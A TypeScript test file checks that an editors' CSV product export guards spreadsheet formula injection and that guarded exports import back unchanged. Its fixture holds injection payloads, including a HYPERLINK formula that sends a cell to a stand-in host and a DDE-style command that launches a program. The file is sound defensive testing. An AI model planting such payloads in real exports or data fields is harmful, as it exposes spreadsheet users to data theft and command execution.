// Issue 23, finding 4: the editors' CSV export left names and descriptions starting with =, +, -, @, tab or CR as
// live spreadsheet formulas (the public feed guarded them). One CSV module now guards every text cell it writes (a
// leading ') and takes the guard off when it reads, so an export still imports back unchanged.
import { env } from "cloudflare:workers";
import fc from "fast-check";
import { beforeAll, describe, expect, it } from "vitest";
import { parseCsv, toCsv } from "../../src/platform/lib/csv.ts";
import { admin, body, createEditor } from "../editor/helpers.ts";

/** A minimal RFC 4180 reader, independent of the code under test: the cells a spreadsheet program would see. */
function cellsOf(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  for (let i = text.startsWith("\ufeff") ? 1 : 0; i < text.length; i++) {
    const ch = text[i];
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ",") {
      row.push(cell);
      cell = "";
    } else if (ch === "\r" && text[i + 1] === "\n") {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = "";
      i++;
    } else cell += ch;
  }
  return rows;
}

const HOSTILE = {
  name_vi: '=HYPERLINK("https://evil.example/?d="&A1,"Bấm vào đây")',
  name_en: "+cmd|' /C calc'!A0",
  description_vi: "-2+3 là mô tả",
  description_en: "@SUM(1+1)",
  // (A leading tab is guarded too — see the property below — but the import trims cells, as the forms do.)
  category_vi: "- gạch đầu dòng",
  category_en: "'=already quoted by hand",
};

let pub: Awaited<ReturnType<typeof createEditor>>;
beforeAll(async () => {
  pub = await createEditor("xuat-csv@example.vn", "publisher");
  const sets = Object.keys(HOSTILE)
    .map((k) => `${k} = ?`)
    .join(", ");
  await env.DB.prepare(`UPDATE products SET ${sets} WHERE slug = 'mien-dong-tan-viet-a'`)
    .bind(...Object.values(HOSTILE))
    .run();
});

describe("the editors' CSV export", () => {
  it("leaves no cell a spreadsheet would run as a formula", async () => {
    const text = await (await admin("GET", "/export/products", pub.token)).text();
    const cells = cellsOf(text);
    const header = cells[0] ?? [];
    const row = cells.find((r) => r[header.indexOf("slug")] === "mien-dong-tan-viet-a") ?? [];
    expect(row.length).toBe(header.length);
    for (const r of cells) for (const c of r) expect(c, c).not.toMatch(/^[=+\-@\t\r]/);
    expect(row[header.indexOf("name_vi")]).toBe(`'${HOSTILE.name_vi}`);
    expect(row[header.indexOf("category_en")]).toBe(`''=already quoted by hand`);
  });

  it("imports back unchanged, the guard taken off", async () => {
    const text = await (await admin("GET", "/export/products", pub.token)).text();
    const report = await body(await admin("POST", "/import?kind=products", pub.token, text));
    const mine = report.rows.find((r: { key: string }) => r.key === "mien-dong-tan-viet-a");
    expect(mine, JSON.stringify(mine)).toMatchObject({ action: "unchanged" });
  });
});

describe("one CSV module: writing guards, reading unguards", () => {
  it("any rows round-trip exactly, formula-looking text and hand-quoted text included", () => {
    const field = fc.string({
      unit: fc.constantFrom("a", "ệ", ",", '"', "\n", "=", "+", "-", "@", "\t", "'", " ", "1"),
    });
    fc.assert(
      fc.property(
        fc.array(fc.array(field, { minLength: 3, maxLength: 3 }), { minLength: 1, maxLength: 5 }),
        (rows) => {
          const kept = rows.filter((r) => !(r.length === 1 && r[0] === ""));
          expect(parseCsv(toCsv(rows))).toEqual(kept);
          for (const r of cellsOf(toCsv(rows))) for (const c of r) expect(c).not.toMatch(/^[=+\-@\t\r]/);
        },
      ),
    );
  });
});
